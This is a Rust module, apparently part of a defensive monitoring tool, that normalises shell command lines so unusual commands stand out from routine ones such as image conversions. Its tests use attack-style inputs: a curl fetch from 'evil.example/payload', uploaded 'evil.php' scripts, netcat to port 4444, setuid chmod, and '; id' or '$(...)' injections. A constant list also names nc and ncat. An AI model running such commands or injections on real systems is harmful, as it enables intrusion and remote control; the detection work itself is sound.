//! What a command has in common with others of its kind: `convert /tmp/phpA1.jpg out/17.jpg` is like any other conversion.

use crate::trail::stable;
use std::fmt::Write;

/// Words beyond that make a command one of its own.
const WORDS_MAX: usize = 1000;
/// Programs whose first word is another one.
const STARTERS: [&str; 9] = ["exec", "env", "nice", "nohup", "setsid", "sudo", "time", "command", "stdbuf"];
/// Programs of which a file is what they do, and the numbers are.
const WHOLE: [&str; 18] = [
    "php", "phar", "python", "perl", "ruby", "node", "nodejs", "lua", "java", "sh", "bash", "dash", "ash", "zsh",
    "ksh", "chmod", "nc", "ncat",
];
/// A longer word is a code or a name of a file.
const LONG: usize = 32;
/// A longer end of a name is no kind of file.
const KIND_MAX: usize = 8;

/// A command line without what differs from call to call: numbers, the names of files, long codes. What a shell does with it stays, and
/// the kinds of files: `convert a.jpg b.jpg` is not `convert a.jpg b.php`, nor `convert a.jpg; b`. An address of the web keeps its host, and
/// a program its whole name. A line of which the end is not known is like no other.
pub fn of_command(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut words = 0;
    let (mut is_program, mut is_whole) = (true, false);
    if line.ends_with(crate::CUT) {
        let _ = write!(out, "{:x} ", stable(line));
    }
    for part in line.split_inclusive(|character: char| is_operator(character) || is_blank(character)) {
        let end = part.chars().next_back().filter(|last| is_operator(*last) || is_blank(*last));
        let word = part.strip_suffix(|last| Some(last) == end).unwrap_or(part);
        if words == WORDS_MAX {
            let _ = write!(out, "{:x}", stable(line));
            break;
        }
        if !word.is_empty() {
            match is_program {
                true => {
                    is_whole = takes_whole(word);
                    out.push_str(word);
                }
                false if is_whole => out.push_str(word),
                false => of_word(word, &mut out),
            }
            out.push(' ');
            words += 1;
            // Of a word that a shell gets, and of one that starts another program, the next one is a program.
            is_program =
                word == "-c" || (is_program && STARTERS.contains(&word.rsplit('/').next().unwrap_or_default()));
        }
        if let Some(operator) = end.filter(|last| is_operator(*last)) {
            out.push(operator);
            out.push(' ');
            is_program = !"<>$)".contains(operator);
        }
    }
    out
}

/// Whether each word of a program's command tells it from others: what an interpreter runs is its file.
fn takes_whole(program: &str) -> bool {
    let name = program.rsplit('/').next().unwrap_or_default();
    WHOLE.contains(&name.trim_end_matches(|one: char| one.is_ascii_digit() || one == '.'))
}

/// A character by which a shell does something else than passing a word on.
fn is_operator(character: char) -> bool {
    matches!(character, ';' | '|' | '&' | '`' | '$' | '(' | ')' | '<' | '>' | '\n')
}

fn is_blank(character: char) -> bool {
    character.is_whitespace() || matches!(character, '\'' | '"' | '=' | ',')
}

fn of_word(word: &str, out: &mut String) {
    if let Some((scheme, rest)) = word.split_once("://") {
        let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
        let _ = write!(out, "{scheme}://{host}");
        return;
    }
    if word.parse::<std::net::IpAddr>().is_ok() {
        out.push_str(word);
        return;
    }
    let (first, name) = (word.split('/').next().unwrap_or_default(), word.rsplit('/').next().unwrap_or_default());
    let kind = name.rsplit_once('.').map(|(_, kind)| kind).filter(|kind| kind.len() <= KIND_MAX).unwrap_or_default();
    if word.starts_with('/') {
        let _ = write!(out, "/{}/*.{kind}", word.split('/').nth(1).unwrap_or_default());
    } else if first.len() < word.len() && (first.contains(['.', ':', '@']) && first != "." && first != "..") {
        // A host, whose files differ.
        let _ = write!(out, "{first}/*.{kind}");
    } else if word.contains('/') || word.chars().count() > LONG {
        let _ = write!(out, "*.{kind}");
    } else {
        let mut is_number = false;
        for character in word.chars() {
            if !character.is_ascii_digit() {
                out.push(character);
            } else if !is_number {
                out.push('#');
            }
            is_number = character.is_ascii_digit();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_differs_from_call_to_call_is_left_out() {
        let convert = of_command("sh -c convert '/tmp/php3Ab9' -resize 200x200 out/17.jpg");
        assert_eq!(convert, of_command("sh -c convert '/tmp/phpZZ' -resize 640x480 out/9124.jpg"));
        assert_ne!(convert, of_command("sh -c convert '/srv/x' -resize 200x200 out/17.jpg"));
        assert_ne!(of_command("sh -c id"), of_command("sh -c w"));
        assert_eq!(of_command("curl https://a.example/x1"), of_command("curl https://a.example/y?z"));
        assert_ne!(of_command("curl https://a.example/x1"), of_command("curl https://b.example/x1"));
    }

    /// Another script, another host, another right: not the files of one.
    #[test]
    fn what_a_program_runs_and_whom_it_asks_is_told_apart() {
        for (ordinary, other) in [
            ("php /srv/www/shop/cron.php", "php /srv/www/shop/uploads/evil.php"),
            ("/usr/bin/php8.2 /srv/www/shop/cron.php", "/usr/bin/php8.2 /srv/www/shop/uploads/evil.php"),
            ("sh -c 'python3 jobs/a.py'", "sh -c 'python3 uploads/a.py'"),
            ("bash /srv/jobs/mail.sh", "bash /srv/www/uploads/x.sh"),
            ("curl -s api.example/v1/ping", "curl -s evil.example/payload"),
            ("scp a.txt backup@one.example:/srv/a.txt", "scp a.txt backup@two.example:/srv/a.txt"),
            ("ping 192.0.2.1", "ping 192.0.2.2"),
            ("nc 192.0.2.1 80", "nc 192.0.2.1 4444"),
            ("chmod 0644 a", "chmod 4755 a"),
        ] {
            assert_ne!(of_command(ordinary), of_command(other), "{other}");
        }
        assert_eq!(of_command("curl -s api.example/v1/ping7"), of_command("curl -s api.example/v1/ping8"));
        assert_eq!(of_command("convert ./in/1.jpg ../out/1.jpg"), of_command("convert ./in/2.jpg ../out/2.jpg"));
    }

    /// What looks like an ordinary command at its beginning, or in its files, is not one.
    #[test]
    fn a_disguise_is_none() {
        let ordinary = of_command("/usr/bin/convert /tmp/php1.jpg -resize 200x200 /srv/out/1.jpg");
        for other in [
            "/usr/bin/php /tmp/php1.jpg -resize 200x200 /srv/out/1.jpg",
            "sh -c '/usr/bin/convert /tmp/php1.jpg -resize 200x200 /srv/out/1.jpg'",
            "env /usr/bin/convert /tmp/php1.jpg -resize 200x200 /srv/out/1.jpg",
        ] {
            assert_ne!(of_command(other), ordinary, "{other}");
        }
        assert_ne!(of_command("sh -c /usr/bin/convert a"), of_command("sh -c /usr/bin/php a"));
        assert_ne!(of_command("sh -c 'true; /usr/bin/convert a'"), of_command("sh -c 'true; /usr/bin/php a'"));
        let long = |end: &str| of_command(&format!("convert a {} b{end}", "a ".repeat(900)));
        assert_eq!(long(""), long(""));
        assert_ne!(long("; id"), long(""));
        let many = |end: &str| of_command(&format!("convert {}{end}", "a ".repeat(1200)));
        assert_ne!(many("; id"), many(""));
        assert_ne!(of_command("convert /tmp/php1.jpg\u{2026}"), of_command("convert /tmp/php2.jpg\u{2026}"));
    }

    #[test]
    fn what_a_shell_does_with_it_stays() {
        let ordinary = of_command("sh -c 'convert /tmp/php1.jpg -resize 200x200 /srv/out/1.jpg'");
        for other in [
            "sh -c 'convert /tmp/php1.jpg -resize 200x200;/srv/out/1.jpg'",
            "sh -c 'convert;/tmp/php1.jpg -resize 200x200 /srv/out/1.jpg'",
            "sh -c 'convert /tmp/php1.jpg -resize 200x200 /srv/out/1.php'",
            "sh -c 'convert /tmp/php1.jpg -resize 200x200 > /srv/out/1.jpg'",
            "sh -c 'convert /tmp/php1.jpg -resize 200x200 $(/srv/out/1.jpg)'",
            "sh -c 'convert /tmp/php1.jpg -resize 200x200 `/srv/out/1.jpg`'",
            "sh -c 'convert /tmp/php1.jpg -resize 200x200 | /srv/out/1.jpg'",
        ] {
            assert_ne!(of_command(other), ordinary, "{other}");
        }
        assert_eq!(of_command("sh -c 'convert /tmp/php7.jpg -resize 9x9 /srv/out/82.jpg'"), ordinary);
    }
}
